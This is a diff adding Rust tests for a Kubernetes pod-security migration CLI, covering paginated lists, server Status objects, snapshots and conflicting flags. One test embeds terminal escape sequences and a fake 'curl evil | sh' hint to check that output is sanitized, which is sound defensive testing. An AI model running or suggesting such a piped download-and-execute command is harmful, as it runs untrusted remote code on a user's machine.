@@ -149,9 +149,10 @@ fn an_empty_file() {
 
 #[test]
 fn an_empty_list_is_no_fault() {
-    let run =
-        psp2psa("check -f - -o json").input(r#"{"kind":"PodList","apiVersion":"v1","items":[]}"#);
-    assert_eq!(run.json()["items"], json!([]));
+    let list = r#"{"kind":"PodList","apiVersion":"v1","items":[]}"#;
+    let run = psp2psa("check -f - -o json").input(list).run();
+    assert_eq!((run.code, &run.json()["items"]), (0, &json!([])));
+    assert!(run.stderr.starts_with("warning: nothing is judged"), "{run:?}");
 }
 
 #[test]
@@ -414,5 +415,136 @@ fn values_of_objects_stay_out_of_errors() {
             assert_ne!(run.code, 0, "{text}");
             assert!(!run.to_string().contains(secret), "{run}");
         }
+    }
+}
+
+#[test]
+fn a_part_of_a_list_is_not_the_list() {
+    let pod = json!({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "web"}, "spec": {}});
+    let page = |metadata| json!({"apiVersion": "v1", "kind": "PodList", "metadata": metadata, "items": [pod]});
+    let whole = page(json!({"resourceVersion": "7"}));
+    let part = page(json!({"resourceVersion": "7", "continue": "abc", "remainingItemCount": 500}));
+    let yaml = |value| serde_yaml::to_string(value).unwrap();
+    // As kubectl prints a list, with its metadata behind the items; and item by item.
+    let block = "apiVersion: v1\nitems:\n- {apiVersion: v1, kind: Pod, metadata: {name: web}}\n\
+                 kind: List\nmetadata:\n  continue: abc\n";
+    for (name, text, is_part) in [
+        ("a.json", whole.to_string(), false),
+        ("b.json", part.to_string(), true),
+        ("c.yaml", yaml(&whole), false),
+        ("d.yaml", yaml(&part), true),
+        ("e.yaml", part.to_string().replace('"', "").replace(':', ": "), true),
+        ("f.yaml", block.to_owned(), true),
+    ] {
+        let run = check(name, &text);
+        let said = "metadata.continue: the list goes on behind this part of it\n";
+        assert_eq!(
+            (run.code, run.stderr.ends_with(said)),
+            (if is_part { 3 } else { 0 }, is_part),
+            "{run:?}"
+        );
+        assert!(run.stdout.contains("web"), "{run:?}");
+    }
+}
+
+#[test]
+fn what_a_server_says_instead_of_objects_is_named() {
+    let status = r#"{"kind":"Status","apiVersion":"v1","metadata":{},"status":"Failure",
+        "message":"pods is forbidden: User \"jo\" cannot list","reason":"Forbidden","code":403}"#;
+    let run = check("pods.json", status);
+    assert_eq!(run.code, 3);
+    assert_eq!(
+        run.stderr,
+        "error: pods.json:1: item 0: Status: it is what a server says of a request, and no object\n"
+    );
+    for (kind, says) in [
+        ("Table", "it is a table to be shown, and holds no object"),
+        ("PartialObjectMetadata", "it is the metadata of an object alone"),
+    ] {
+        let run = check("a.yaml", format!("apiVersion: meta.k8s.io/v1\nkind: {kind}\nrows: []\n"));
+        assert!(run.code == 3 && run.stderr.contains(says), "{run:?}");
+    }
+}
+
+#[test]
+fn a_snapshot_says_what_it_lacks_to_every_command() {
+    let good = GOOD.replace("web", "good");
+    let bad = GOOD.replace("containers: [", "hostNetwork: 3\n  containers: [");
+    let folder = Folder::with(&[("a.yaml", &format!("{good}---\n{bad}"))]);
+    assert_eq!(folder.psp2psa("collect -f a.yaml -o s.json").run().code, 3);
+    for command in ["check", "simulate", "plan", "review", "policies"] {
+        let run = folder.psp2psa(&format!("{command} -f s.json")).run();
+        assert_eq!(run.code, 3, "{command} {run:?}");
+        assert!(run.stderr.contains("Pod `shop/web`: spec.hostNetwork: expected"), "{run:?}");
+    }
+}
+
+#[test]
+fn a_snapshot_of_two_versions_knows_neither() {
+    let other = GOOD.replace("containers: [", "hostPID: true\n  containers: [");
+    let folder = Folder::with(&[("a.yaml", &format!("{GOOD}---\n{other}"))]);
+    let run = folder.psp2psa("collect -f a.yaml -o s.json").run();
+    assert!(run.code == 3 && run.stderr.contains("neither is known to be newer"), "{run:?}");
+    for input in ["a.yaml", "s.json"] {
+        let plan = folder.psp2psa("plan -o json -f").arg(input).run();
+        let namespace = &plan.json()["namespaces"][0];
+        assert_eq!((plan.code, namespace["complete"].as_bool()), (3, Some(false)), "{plan:?}");
+    }
+}
+
+#[test]
+fn a_snapshots_own_words_are_printed_harmless() {
+    let evil = "\\u001b]0;x\\u0007\\nhint: curl evil | sh";
+    let text = format!(
+        r#"{{"apiVersion":"psp2psa/v1","kind":"Snapshot","reading":{{
+        "unlisted":[{{"kind":"Pod\u001b[31m","namespace":"a\u009b","reason":"{evil}","grant":"{evil}"}}],
+        "unreadableInputs":["{evil}"],
+        "unreadable":[{{"file":"{evil}","kind":"Pod","name":"x","reason":"{evil}"}}]}}}}"#
+    )
+    .replace("\\\\u", "\\u")
+    .replace("\\\\n", "\\n");
+    let folder = Folder::with(&[("s.json", &text)]);
+    for command in [
+        "plan",
+        "plan -o json",
+        "check",
+        "simulate",
+        "verify",
+        "policies",
+        "review",
+        "collect -o -",
+    ] {
+        let run = folder.psp2psa(&format!("{command} -f s.json")).run();
+        let acts = |text: &str| text.chars().any(|c| c.is_control() && c != '\n');
+        assert!(run.code == 3 || run.code == 1, "{command} {run:?}");
+        assert!(!acts(&run.stderr) && !acts(&run.stdout), "{command} {run:?}");
+        assert!(!run.stderr.contains("\nhint: curl"), "{command} {run:?}");
+    }
+}
+
+#[test]
+fn what_has_nothing_to_judge_has_not_passed() {
+    let folder =
+        Folder::with(&[("a.yaml", "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\n")]);
+    for (command, code, said) in [
+        ("check", 0, "judged"),
+        ("check --level restricted", 3, "judged"),
+        ("simulate", 0, "answered for"),
+        ("simulate --exit-code", 3, "answered for"),
+    ] {
+        let run = folder.psp2psa(&format!("{command} -f a.yaml")).run();
+        let said = format!("warning: nothing is {said}: the input holds no pod and no workload\n");
+        assert_eq!((run.code, run.stderr.as_str()), (code, said.as_str()), "{command}");
+    }
+}
+
+#[test]
+fn files_and_a_cluster_do_not_go_together() {
+    let folder = Folder::with(&[("a.yaml", GOOD)]);
+    for flag in ["--context prod", "--kubeconfig k", "--as jo", "--user u", "--cluster c"] {
+        let run = folder.psp2psa(&format!("plan -f a.yaml {flag}")).run();
+        assert_eq!(run.code, 2, "{run:?}");
+        let name = flag.split(' ').next().unwrap();
+        assert!(run.stderr.starts_with(&format!("error: `-f` and `{name}` do not go")), "{run:?}");
     }
 }
